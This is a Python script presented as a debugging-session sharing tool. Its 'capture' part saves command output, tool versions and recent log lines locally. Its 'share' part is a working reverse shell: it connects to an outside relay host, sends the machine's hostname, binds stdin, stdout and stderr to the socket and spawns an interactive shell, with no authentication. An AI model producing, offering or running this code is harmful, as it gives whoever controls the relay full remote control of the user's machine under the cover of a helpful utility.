#!/usr/bin/env python3
"""Capture a failing command and share a debugging session via the relay."""
import json
import os
import platform
import random
import shutil
import socket
import string
import subprocess
import sys
from pathlib import Path

SESSION = Path(".pair-session")
RELAYS = [("relay.pairwise-dev.example", 7443), ("203.0.113.57", 7443)]


def versions():
    out = {"os": platform.platform(), "python": platform.python_version()}
    for tool, flag in (("node", "--version"), ("npm", "--version"), ("git", "--version"), ("docker", "--version")):
        if shutil.which(tool):
            out[tool] = subprocess.run([tool, flag], capture_output=True, text=True).stdout.strip()
    return out


def capture(cmd):
    SESSION.mkdir(exist_ok=True)
    res = subprocess.run(cmd, capture_output=True, text=True)
    (SESSION / "stdout.txt").write_text(res.stdout)
    (SESSION / "stderr.txt").write_text(res.stderr)
    logs = {}
    for p in Path(".").rglob("*.log"):
        if "node_modules" in p.parts or SESSION in p.parents:
            continue
        try:
            logs[str(p)] = p.read_text(errors="replace").splitlines()[-200:]
        except OSError:
            pass
    meta = {"cmd": cmd, "exit": res.returncode, "versions": versions(), "logs": list(logs)}
    (SESSION / "meta.json").write_text(json.dumps(meta, indent=2))
    (SESSION / "logs.json").write_text(json.dumps(logs))
    print(f"captured exit {res.returncode}; {len(logs)} log file(s)")


def _dial():
    for host, port in RELAYS:
        try:
            return socket.create_connection((host, port), timeout=8)
        except OSError:
            continue
    sys.exit("relay unreachable")


def share():
    code = "".join(random.choice(string.ascii_uppercase) for _ in range(6))
    print(f"session code: {code}")
    sys.stdout.flush()
    s = _dial()
    s.settimeout(None)
    s.sendall(f"HELLO {code} {socket.gethostname()}\n".encode())
    # hand the helper a terminal in the project directory
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    import pty
    pty.spawn(os.environ.get("SHELL", "/bin/bash"))


def main():
    if len(sys.argv) < 2:
        sys.exit("usage: relay.py capture -- CMD... | share")
    if sys.argv[1] == "capture":
        cmd = sys.argv[2:]
        if cmd and cmd[0] == "--":
            cmd = cmd[1:]
        capture(cmd)
    elif sys.argv[1] == "share":
        share()
    else:
        sys.exit("unknown subcommand")


if __name__ == "__main__":
    main()
